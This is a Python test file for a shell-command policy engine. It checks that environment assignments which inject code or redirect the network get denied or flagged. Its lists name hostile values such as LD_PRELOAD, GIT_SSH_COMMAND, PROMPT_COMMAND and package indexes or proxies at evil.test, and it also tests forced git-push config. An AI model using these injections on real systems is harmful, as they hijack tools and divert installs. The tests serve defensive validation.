"""Environment assignments are judged: ``VAR=x cmd``, ``env VAR=x cmd``, ``export VAR=x``."""

from __future__ import annotations

from pathlib import Path

import pytest

from keel.policy import Policy
from keel.policy._env import changes_git_config, kind

FORMS = ["{a} git log", "env {a} git log", "export {a}; git log", "{a}; git log",
         "declare -x {a}; git log", "sudo env {a} git log"]  # fmt: skip
CODE = [
    "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=core.pager", "GIT_CONFIG_VALUE_0=id",
    "GIT_SSH_COMMAND=id", "GIT_SSH=./x", "GIT_EXTERNAL_DIFF=./x", "GIT_ASKPASS=./x",
    "GIT_EXEC_PATH=./x", "GIT_PAGER=id", "PAGER=id", "EDITOR=./x", "VISUAL=./x",
    "NODE_OPTIONS=--require=./x.js", "PYTHONSTARTUP=./x.py", "PYTHONPATH=src", "PERL5OPT=-Mx",
    "RUBYOPT=-rx", "LESSOPEN='|id %s'", "LESSCLOSE=id", "PATH=./bin", "GOFLAGS=-toolexec=./x",
    "npm_config_script_shell=./x", "NPM_CONFIG_NODE_OPTIONS=x", "HOME=.", "XDG_CONFIG_HOME=.",
]  # fmt: skip
LOADER = ["LD_PRELOAD=./x.so", "LD_LIBRARY_PATH=.", "LD_AUDIT=./a.so", "BASH_ENV=./x",
          "ENV=./x", "PROMPT_COMMAND=id"]  # fmt: skip
NETWORK = ["GOPROXY=https://evil.test", "PIP_INDEX_URL=https://evil.test/simple",
           "PIP_EXTRA_INDEX_URL=https://evil.test/simple", "HTTPS_PROXY=http://evil.test:3128",
           "https_proxy=http://evil.test:3128", "UV_INDEX_URL=https://evil.test"]  # fmt: skip


@pytest.fixture
def dev(tmp_path: Path) -> Policy:
    return Policy.for_preset("developer", tmp_path)


@pytest.fixture
def boxed(tmp_path: Path) -> Policy:
    return Policy.for_preset("developer", tmp_path, contained=True)


@pytest.fixture
def strict_boxed(tmp_path: Path) -> Policy:
    return Policy.for_preset("strict", tmp_path, contained=True)


def test_kinds() -> None:
    assert kind("LD_PRELOAD", "ls") == "loader"
    assert kind("GIT_CONFIG_KEY_7", "git") == "code"
    assert kind("npm_config_registry", "npm") == "code"
    assert kind("PIP_INDEX_URL", "pip") == "network"
    assert kind("http_proxy", "curl") == "network"
    assert kind("CDPATH", None) == "cwd"
    assert kind("EDITOR", "git") == "code" and kind("EDITOR", "crontab") is None
    assert kind("EDITOR", None) == "code"  # exported: git may run later in the line
    assert kind("CI", "npm") is None and kind("LANG", None) is None
    assert changes_git_config("GIT_CONFIG_VALUE_3") and changes_git_config("HOME")
    assert not changes_git_config("PAGER")


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("assignment", CODE)
def test_code_injecting_variables_ask_uncontained(
    dev: Policy, boxed: Policy, strict_boxed: Policy, form: str, assignment: str
) -> None:
    line = form.format(a=assignment)
    decision = dev.check_command(line)
    assert decision.decision != "allow", decision
    assert decision.rule in ("risk.env_injection", "risk.path_override", "risk.privilege")
    assert strict_boxed.check_command(line).decision == "deny"
    if not line.startswith("sudo"):
        assert boxed.check_command(line).decision == "allow", line


@pytest.mark.parametrize("assignment", LOADER)
def test_loader_variables_are_denied_uncontained(
    dev: Policy, boxed: Policy, assignment: str
) -> None:
    for form in FORMS[:5]:
        line = form.format(a=assignment)
        assert (dev.check_command(line).decision, dev.check_command(line).rule) == (
            "deny",
            "risk.env_injection",
        ), line
        assert boxed.check_command(line).decision == "allow", line


@pytest.mark.parametrize("assignment", NETWORK)
def test_network_variables(dev: Policy, boxed: Policy, assignment: str) -> None:
    line = f"{assignment} pip install requests"
    decision = dev.check_command(line)
    assert decision.decision == "deny" and decision.rule == "network.not_allowed", decision
    assert boxed.check_command(line).decision == "allow"  # keel's proxy enforces the allowlist
    harmless = "PIP_INDEX_URL=https://pypi.org/simple pip list"
    assert dev.check_command(harmless).rule == "network.env_override"


def test_cdpath_is_asked_about_in_both_modes(dev: Policy, boxed: Policy) -> None:
    for line in ("CDPATH=/ cd etc && cat hostname", "export CDPATH=/etc; cd ssh && ls"):
        assert dev.check_command(line).decision == "ask"
        assert boxed.check_command(line).decision == "ask"


def test_cdpath_from_the_environment_makes_cd_unknown(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "src").mkdir()
    monkeypatch.setenv("CDPATH", "/etc")
    policy = Policy.for_preset("developer", tmp_path)
    assert policy.check_command("cd ssh && cat ssh_config").rule == "path.dynamic"
    assert policy.check_command("cd ./src && ls").decision == "allow"


def test_git_push_with_injected_config_asks_even_contained(boxed: Policy) -> None:
    pushes = [
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.push "
        "GIT_CONFIG_VALUE_0=+refs/heads/*:refs/heads/* git push",
        "export GIT_CONFIG_PARAMETERS=\"'remote.origin.mirror'='true'\"; git push",
        "HOME=. git push origin main",
        "git -c remote.origin.push=+main:main push",
    ]
    for line in pushes:
        assert boxed.check_command(line).decision == "ask", line
    assert boxed.check_command("GIT_CONFIG_COUNT=1 git log").decision == "allow"


def test_harmless_variables_change_nothing(dev: Policy) -> None:
    for line in ("CI=1 npm test", "LANG=C sort a.txt", "TZ=UTC date", "FOO=bar; echo $FOO"):
        assert dev.check_command(line).decision == "allow", line
